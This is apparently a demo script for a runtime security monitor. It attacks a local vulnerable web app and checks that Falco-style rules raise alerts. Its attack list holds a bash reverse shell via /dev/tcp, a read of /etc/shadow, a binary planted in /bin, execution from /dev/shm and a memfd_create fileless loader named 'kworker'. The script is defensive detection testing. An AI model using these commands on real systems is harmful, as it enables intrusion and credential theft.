#!/usr/bin/env python3
"""Attacks a small web application that runs under instrument, and shows the alerts as they happen, here and on a collector's page.

usage: script/demo [--json] [--own-rules] [--no-overhead]
--json: only the alerts, one JSON object a line, and no page; --own-rules: the bundle's rules even where Falco's official files are at
hand; --no-overhead: without the comparison of speed

Must stay true: whatever happens, ^C included, nothing stays behind: no process, no temporary file, no /bin/hello. A person is waited
for at a terminal only, and not for ever.
"""
import argparse
import contextlib
import functools
import http.client
import json
import os
import pathlib
import shutil
import signal
import socket
import statistics
import subprocess
import sys
import tempfile
import threading
import time
import urllib.parse

from page import Page

ROOT = pathlib.Path(__file__).resolve().parents[1]
BUILD = ROOT / 'build'
BUNDLE = BUILD / 'bundle/opt/undercoat'
PLANTED = pathlib.Path('/bin/hello')
PLANT = '#!/bin/sh\necho hello\n'
DROPPED = pathlib.Path('/dev/shm/undercoat-demo-dropped')
PTRACE_ALL = BUILD / 'bench/ptrace_all'
FACTS = {'file': 'fd.name', 'command': 'proc.cmdline', 'exe': 'proc.exepath', 'parent': 'proc.pname', 'user': 'user.name'}
COLOURS = {'Emergency': 31, 'Alert': 31, 'Critical': 31, 'Error': 31, 'Warning': 33, 'Notice': 36}


class Screen:
    """Writes for people, in colour on a terminal; with --json only alerts are written."""

    def __init__(self, as_json):
        self.json = as_json
        self.colour = sys.stdout.isatty() and not as_json and os.environ.get('NO_COLOR') is None

    def paint(self, code, text):
        return f'\033[{code}m{text}\033[0m' if self.colour else text

    def say(self, text='', code=None):
        if not self.json:
            print(self.paint(code, text) if code else text, flush=True)

    def alert(self, line):
        if self.json:
            print(line, flush=True)
            return
        a = json.loads(line)
        priority = a.get('priority', '')
        print(f'    {self.paint(COLOURS.get(priority, 37), "● " + priority.upper().ljust(9))} {self.paint(1, a["rule"])}')
        fields = a.get('output_fields', {})
        facts = [f'{word}={fields[name]}' for word, name in FACTS.items() if fields.get(name) not in (None, '', '<NA>')]
        print(self.paint(2, '      ' + shorten('  '.join(facts) or a.get('output', ''))), flush=True)


def shorten(text):
    width = max(60, shutil.get_terminal_size((120, 25)).columns - 8)
    return text if len(text) <= width else text[:width - 1] + '…'


class AlertTail:
    """Shows the lines of the alerts file as they appear."""

    def __init__(self, path, screen):
        self.path, self.screen, self.seen, self.at = path, screen, [], 0

    def poll(self):
        if not self.path.exists():
            return
        with open(self.path, 'rb') as f:
            f.seek(self.at)
            data = f.read()
        whole = data[:data.rfind(b'\n') + 1]
        self.at += len(whole)
        for line in whole.decode(errors='replace').splitlines():
            if line.startswith('{'):
                self.seen.append(json.loads(line)['rule'])
                self.screen.alert(line)

    def wait(self, since, rules, seconds=5):
        """Until each of `rules` was seen after index `since`, then a little for what comes with them."""
        deadline = time.monotonic() + seconds
        while time.monotonic() < deadline and not set(rules) <= set(self.seen[since:]):
            self.poll()
            time.sleep(0.02)
        quiet = time.monotonic() + 0.3
        while time.monotonic() < quiet:
            self.poll()
            time.sleep(0.02)


class Server:
    """One server process; `prefix` is what it runs under."""

    def __init__(self, stack, prefix, command, errors, variables=None):
        env = {**os.environ, 'UNDERCOAT_PRIORITY': 'security', **(variables or {})}
        self.process = subprocess.Popen([str(c) for c in [*prefix, *command, '0']], stdout=subprocess.PIPE, stderr=errors,
                                        stdin=subprocess.DEVNULL, env=env, start_new_session=True)
        stack.callback(self.stop)
        line = self.process.stdout.readline()
        if not line.strip().isdigit():
            raise SystemExit(f'demo: the server did not start under: {" ".join(map(str, prefix)) or "nothing"}')
        self.port = int(line)
        self.connection = None

    def request(self, method, path, **form):
        for attempt in (1, 2):
            if self.connection is None:
                self.connection = http.client.HTTPConnection('127.0.0.1', self.port, timeout=15)
            try:
                self.connection.request(method, path, urllib.parse.urlencode(form) or None,
                                        {'Content-Type': 'application/x-www-form-urlencoded'} if form else {})
                r = self.connection.getresponse()
                return r.status, r.read()
            except (http.client.HTTPException, ConnectionError):
                self.connection.close()
                self.connection = None
                if attempt == 2:
                    raise

    def stop(self):
        if self.connection:
            self.connection.close()
        with contextlib.suppress(ProcessLookupError):
            self.process.terminate()
            with contextlib.suppress(subprocess.TimeoutExpired):
                self.process.wait(5)
            os.killpg(self.process.pid, signal.SIGKILL)
        self.process.wait()


class Catcher:
    """The attacker's end of a reverse shell: sends one command, keeps the answer."""

    def __init__(self, stack):
        self.socket = socket.create_server(('127.0.0.1', 0))
        stack.callback(self.socket.close)
        self.port, self.answer = self.socket.getsockname()[1], b''
        threading.Thread(target=self.serve, daemon=True).start()

    def serve(self):
        with contextlib.suppress(OSError):
            peer, _ = self.socket.accept()
            with peer:
                peer.settimeout(5)
                peer.sendall(b'id; exit\n')
                while data := peer.recv(4096):
                    self.answer += data


# The packs have two of the demo's rules under the names that Falco's official files give them, so that whoever knows these finds
# them again; the others have names of their own.
OWN_NAMES = {
    'Redirect STDOUT/STDIN to Network Connection in Container': 'Standard stream replaced by a connection',
    'Execution from /dev/shm': 'Program run from shared memory',
    'Fileless execution via memfd_create': 'Program run from anonymous memory',
}


def attacks(catcher, official):
    """What is sent: title, method, path, form, and the rules that must speak."""
    return [(*what, [r if official else OWN_NAMES.get(r, r) for r in rules]) for *what, rules in attacks_by_official_names(catcher)]


def attacks_by_official_names(catcher):
    shell = f"bash -c 'exec bash --norc -i >& /dev/tcp/127.0.0.1/{catcher.port} 0>&1'"
    memfd = ("python3 -c \"import os; f=os.memfd_create('kworker'); os.write(f, open('/bin/true','rb').read()); "
             "os.execve(f, ['kworker'], {})\"")
    return [
        ('read the password hashes', 'GET', '/etc/shadow', {}, ['Read sensitive file untrusted']),
        ('plant a program', 'POST', str(PLANTED), {'content': PLANT}, ['Write below binary dir']),
        ('open a reverse shell', 'POST', '/exec', {'command': shell},
         ['Redirect STDOUT/STDIN to Network Connection in Container']),
        ('drop a program and run it', 'POST', '/exec', {'command': f'cp /bin/true {DROPPED} && {DROPPED}'},
         ['Execution from /dev/shm']),
        ('run a program that is no file', 'POST', '/exec', {'command': memfd}, ['Fileless execution via memfd_create']),
    ]


class Interrupt:
    """^C, which is not lost where Python ignores what is raised: in a callback of its own."""
    came = False

    @classmethod
    def take(cls, *_):
        cls.came = True
        raise KeyboardInterrupt

    @classmethod
    def check(cls):
        if cls.came:
            raise KeyboardInterrupt


def attack(screen, server, tail, catcher, official):
    """Returns the rules that should have spoken and did not."""
    silent = []
    for title, method, path, form, rules in attacks(catcher, official):
        Interrupt.check()
        since = len(tail.seen)
        words = ' '.join(f'{k}={v!r}' for k, v in form.items())
        screen.say(f'\n  ▶ {title}', 1)
        screen.say('    ' + shorten(f'{method} {path} {words}'), 2)
        server.request(method, path, **form)
        tail.wait(since, rules)
        missing = [r for r in rules if r not in tail.seen[since:]]
        for r in missing:
            screen.say(f'    ! no alert: {r}', 31)
        silent += missing
        for planted in (PLANTED, DROPPED):
            planted.unlink(missing_ok=True)
    return silent


def overhead(screen, servers):
    """Median time of a request, interleaved over the servers (name -> Server)."""
    samples = {name: [] for name in servers}
    for _ in range(9):
        for name, server in servers.items():
            start = time.perf_counter()
            for _ in range(100):
                server.request('GET', '/etc/hostname')
            samples[name].append((time.perf_counter() - start) * 1e4)
    native = statistics.median(samples['native'])
    screen.say('\n  One request that reads a file, median of 9 interleaved rounds of 100:')
    for name, values in samples.items():
        us = statistics.median(values)
        screen.say(f'    {name:20s} {us:8.0f} µs   ×{us / native:.2f}')


def rules(own):
    """Title, files, and whether they are Falco's."""
    official = ROOT.parent / 'shared/rules'
    names = ['falco_rules.yaml', 'falco-incubating_rules.yaml', 'falco-sandbox_rules.yaml']
    if not own and all((official / n).exists() for n in names):
        return "Falco's official rules", [official / n for n in names], True
    return "the bundle's own rules", sorted((BUNDLE / 'rules').glob('*.yaml')), False


def act(screen, scratch, title, command, files, official, page, with_overhead):
    with contextlib.ExitStack() as stack:
        stack.callback(PLANTED.unlink, missing_ok=True)
        stack.callback(DROPPED.unlink, missing_ok=True)
        alerts = scratch / f'alerts-{pathlib.Path(command[-1]).name}.jsonl'
        errors = stack.enter_context(open(scratch / 'errors', 'a+'))
        instrument = [BUNDLE / 'bin/instrument', '--json', '--alerts', alerts, *[x for f in files for x in ('--rules', f)], '--']
        screen.say(f'\n{title}', '1;4')
        screen.say(f'  $ instrument -- {" ".join(str(c) for c in command)}')
        variables = page.variables(pathlib.Path(command[-1]).name) if page else None
        servers = {'native': Server(stack, [], command, errors), 'under instrument': Server(stack, instrument, command, errors, variables)}
        tail = AlertTail(alerts, screen)
        silent = attack(screen, servers['under instrument'], tail, Catcher(stack), official)
        if with_overhead:
            servers['under plain ptrace'] = Server(stack, [PTRACE_ALL], command, errors)
            overhead(screen, servers)
        return silent, len(tail.seen)


def build_static_server(scratch):
    if not shutil.which('go'):
        raise SystemExit('demo: go is missing; run script/bootstrap')
    env = {**os.environ, 'CGO_ENABLED': '0', 'GOFLAGS': '-mod=mod', 'GO111MODULE': 'off', 'GOCACHE': str(scratch / 'go-cache')}
    r = subprocess.run(['go', 'build', '-o', scratch / 'static_server', '.'], cwd=ROOT / 'demo/static_server', env=env,
                       capture_output=True, text=True)
    if r.returncode:
        raise SystemExit('demo: go build: ' + r.stderr)
    return scratch / 'static_server'


def main():
    p = argparse.ArgumentParser(prog='script/demo', description='Attack a small web application under instrument.')
    p.add_argument('--json', action='store_true', help='print the alerts alone, as JSON lines')
    p.add_argument('--own-rules', action='store_true', help="use the bundle's rules even where Falco's official files are at hand")
    p.add_argument('--no-overhead', action='store_true', help='leave the comparison of speed out')
    arguments = p.parse_args()
    screen = Screen(arguments.json)
    if os.getuid() != 0:
        raise SystemExit('demo: run it as root: the attacked files are those of root')
    left_by_a_demo = PLANTED.is_file() and PLANTED.read_bytes() == PLANT.encode()  # by one that was killed
    if PLANTED.exists() and not left_by_a_demo:
        raise SystemExit(f'demo: {PLANTED} exists already, and no demo put it there; remove it or move it away')
    signal.signal(signal.SIGINT, Interrupt.take)  # ^C counts, though whoever started us may have it ignored
    for sig in (signal.SIGTERM, signal.SIGHUP):
        signal.signal(sig, lambda *_: sys.exit(1))
    with tempfile.TemporaryDirectory(prefix='undercoat-demo-') as name, contextlib.ExitStack() as stack:
        return show(screen, pathlib.Path(name), stack, arguments)


def show(screen, scratch, stack, arguments):
    title, files, official = rules(arguments.own_rules)
    screen.say(f'Rules: {title} ({", ".join(f.name for f in files)})')
    page = None if screen.json else Page(stack, scratch, BUNDLE / 'bin/undercoat')
    if page:
        page.introduce(screen)
    play = functools.partial(act, screen, scratch, files=files, official=official, page=page,
                             with_overhead=not screen.json and not arguments.no_overhead)
    silent, seen = play('A Python web application', ['python3', ROOT / 'demo/vulnerable_app.py'])
    static = build_static_server(scratch)
    more_silent, more_seen = play('The same, statically linked (Go): no libc, nothing to preload', [static])
    Interrupt.check()
    if page:
        silent += page.farewell(screen, seen + more_seen)
    screen.say()
    return 1 if silent or more_silent else 0


try:
    sys.exit(main())
except KeyboardInterrupt:
    sys.exit(130)
